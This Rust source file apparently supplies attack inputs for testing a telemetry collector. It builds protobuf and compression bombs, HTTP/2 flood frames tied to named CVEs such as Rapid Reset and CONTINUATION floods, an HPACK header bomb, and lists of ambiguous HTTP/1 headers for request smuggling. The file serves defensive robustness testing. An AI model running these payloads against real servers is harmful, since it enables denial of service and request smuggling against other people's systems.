//! Requests and frames of attacks, for the tests and for `examples/attack`.

use std::time::Duration;

use tokio::time::timeout;

use super::http2::{
    ACK, Attacker, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY,
    RST_STREAM, SETTINGS, WINDOW_UPDATE, call, field, frame, greeting, indexed_field,
};
use super::{Signal, codec, raw};

const MIB: usize = 1 << 20;

/// A field with a length, as protobuf encodes it.
pub fn message(number: u8, content: &[u8]) -> Vec<u8> {
    let mut encoded = vec![number << 3 | 2];
    prost::encoding::encode_varint(content.len() as u64, &mut encoded);
    encoded.extend_from_slice(content);
    encoded
}

/// A request with these records in one scope.
pub fn request(records: &[u8]) -> Vec<u8> {
    message(1, &message(2, records))
}

/// Requests of about this many bytes, with at least one item, in which two to six bytes decode to a struct.
pub fn bombs(signal: Signal, bytes: usize) -> Vec<Vec<u8>> {
    let many = |entry: &[u8]| entry.repeat(bytes / entry.len());
    let item = match signal {
        Signal::Metrics => message(
            2,
            &[message(5, &[0x0a, 0]), message(7, &[0x0a, 0])].concat(),
        ),
        Signal::Profiles => message(2, &message(2, &[0x22, 1, 1])),
        _ => message(2, &[]),
    };
    let resources = [request(&item), many(&[0x0a, 0])].concat();
    let attributes = message(
        1,
        &[message(1, &many(&[0x0a, 0])), message(2, &item)].concat(),
    );
    let items = match signal {
        Signal::Metrics => {
            let points = many(&[0x0a, 0]);
            let (gauge, sum) = points.split_at(bytes / 4 * 2);
            request(&message(2, &[message(5, gauge), message(7, sum)].concat()))
        }
        _ => request(&many(&item)),
    };
    vec![items, resources, attributes]
}

/// Compressed pprof files of this size, in which one to three bytes decode to a struct.
pub fn pprof_bombs(bytes: usize) -> Vec<Vec<u8>> {
    let one_type = [0x0a, 0];
    let entries = [
        &[0x0a, 0][..],
        &[0x12, 0],
        &[0x32, 0],
        &[0x6a, 1, 0],
        &[0x68, 0],
    ];
    let files = entries.map(|entry| {
        let many = entry.repeat((bytes - 10) / entry.len());
        codec::compress("gzip", &[&one_type[..], &many].concat())
    });
    files.into()
}

/// A body of at least 24 MiB of zeros, above every limit, in the named encoding. If the format allows concatenation,
/// the same compressed MiB 256 times.
pub fn zeros(encoding: &str) -> Vec<u8> {
    match encoding {
        "gzip" | "zstd" => codec::compress(encoding, &vec![0; MIB]).repeat(256),
        _ => codec::compress(encoding, &vec![0; 24 * MIB]),
    }
}

/// The `number`th frames of a flood of HTTP/2 frames. Stream 1 is open.
pub type Flood = fn(u32) -> Vec<u8>;

/// The stream of the `number`th request.
pub fn stream(number: u32) -> u32 {
    2 * number + 1
}

/// Returns a frame that widens a window.
pub fn window_update(stream: u32, increment: u32) -> Vec<u8> {
    frame(WINDOW_UPDATE, 0, stream, &increment.to_be_bytes())
}

fn open(number: u32) -> Vec<u8> {
    let path = raw::method(Signal::Traces);
    frame(HEADERS, END_HEADERS, stream(number + 1), &call(path))
}

/// CVE-2023-44487: requests that are cancelled at once.
pub fn rapid_reset(number: u32) -> Vec<u8> {
    let reset = frame(RST_STREAM, 0, stream(number + 1), &[0, 0, 0, 8]);
    [open(number), reset].concat()
}

/// CVE-2025-8671: requests that cause the server to reset them.
pub fn made_you_reset(number: u32) -> Vec<u8> {
    let overflow = window_update(stream(number + 1), (1 << 31) - 1);
    [open(number), overflow].concat()
}

/// CVE-2024-27316: a header block without an end.
pub fn endless_block(number: u32) -> Vec<u8> {
    let kind = if number == 0 { HEADERS } else { CONTINUATION };
    frame(kind, 0, 3, &field("x", &"y".repeat(100)))
}

/// The same of empty frames.
pub fn empty_continuation(number: u32) -> Vec<u8> {
    let kind = if number == 0 { HEADERS } else { CONTINUATION };
    frame(kind, 0, 3, b"")
}

/// CVE-2019-9512: pings, which the server acknowledges.
pub fn ping(_: u32) -> Vec<u8> {
    frame(PING, 0, 0, &[0; 8])
}

/// Acknowledgements of pings that the server did not send.
pub fn unasked_ping_ack(_: u32) -> Vec<u8> {
    frame(PING, ACK, 0, b"unasked!")
}

/// CVE-2019-9515: settings, which the server acknowledges.
pub fn settings(_: u32) -> Vec<u8> {
    frame(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0])
}

/// CVE-2019-9518: DATA frames without data.
pub fn empty_data(_: u32) -> Vec<u8> {
    frame(DATA, 0, 1, b"")
}

/// CVE-2019-9513: changes of priorities.
pub fn priority(number: u32) -> Vec<u8> {
    frame(PRIORITY, 0, stream(number % 100), &[0, 0, 0, 0, 1])
}

/// Windows that grow by a byte.
pub fn small_window_update(_: u32) -> Vec<u8> {
    window_update(0, 1)
}

/// Frames of an undefined HTTP/2 type.
pub fn unknown_frame(_: u32) -> Vec<u8> {
    frame(0xbe, 0, 0, b"x")
}

/// Sends a thousand requests with this header block on a new connection, without a window for responses unless the
/// attacker reads nothing at all. Returns how many requests the server read, or `None` if it closed the connection.
pub async fn unread_requests(attacker: &mut Attacker, reads: bool, block: &[u8]) -> Option<u32> {
    let settings: &[u8] = match reads {
        true => &[0, 4, 0, 0, 0, 0],
        false => &[],
    };
    attacker.send_bytes(&greeting(settings)).await.ok()?;
    let requests = attacker.flood(1000, |number| {
        frame(HEADERS, END_HEADERS | END_STREAM, stream(number), block)
    });
    // At some point the server stops reading.
    let sent = timeout(Duration::from_millis(200), requests).await;
    Some(sent.unwrap_or_default())
}

/// A header block of 14 KB that expands to 40 MB: one field of nearly the whole table, and then references to it.
pub fn header_bomb() -> Vec<u8> {
    [
        call(raw::method(Signal::Traces)),
        indexed_field("x", &"y".repeat(4000)),
        vec![0x80 | 62; 10_000],
    ]
    .concat()
}

/// The head of an HTTP/1 post of telemetry, with more lines.
pub fn post(more: &str) -> String {
    format!(
        "POST /v1/traces HTTP/1.1\r\nhost: collector\r\ncontent-type: application/x-protobuf\r\n{more}\r\n"
    )
}

/// A request hidden in the body of another request. A server that reads it as a request responds to it.
pub const HIDDEN: &str = "GET /hidden HTTP/1.1\r\nhost: collector\r\n\r\n";

/// Header lines from which two parsers could read different lengths of the body.
pub const AMBIGUOUS: [&str; 15] = [
    "content-length: 0\r\ncontent-length: 43\r\n",
    "content-length: 43, 0\r\n",
    "content-length: +0\r\n",
    "content-length: -1\r\n",
    "content-length: 0x10\r\n",
    "content-length: 99999999999999999999999\r\n",
    "content-length: \r\n",
    "transfer-encoding: identity\r\n",
    "transfer-encoding: xchunked\r\n",
    "transfer-encoding: chunked, identity\r\n",
    "content-length : 0\r\n",
    "x: folded\r\n content-length: 0\r\n",
    "x: a\0b\r\ncontent-length: 0\r\n",
    "x: a\rb\r\ncontent-length: 0\r\n",
    "no colon\r\ncontent-length: 0\r\n",
];

/// Header lines whose body is delimited by the encoding alone, if the connection closes after the request (RFC 9112,
/// 6.3). The body is one empty chunk.
pub const BOTH_LENGTHS: [&str; 3] = [
    "content-length: 43\r\ntransfer-encoding: chunked\r\n",
    "transfer-encoding: chunked\r\ncontent-length: 43\r\n",
    "transfer-encoding: chunked\r\ntransfer-encoding: identity\r\n",
];

/// The statuses of HTTP/1 responses, in order.
pub fn statuses(answer: &[u8]) -> Vec<u16> {
    let answer = String::from_utf8_lossy(answer);
    let lines = answer.match_indices("HTTP/1.1 ");
    let statuses = lines.filter_map(|(at, start)| {
        let status = answer.get(at + start.len()..)?.get(..3)?;
        status.parse().ok()
    });
    statuses.collect()
}
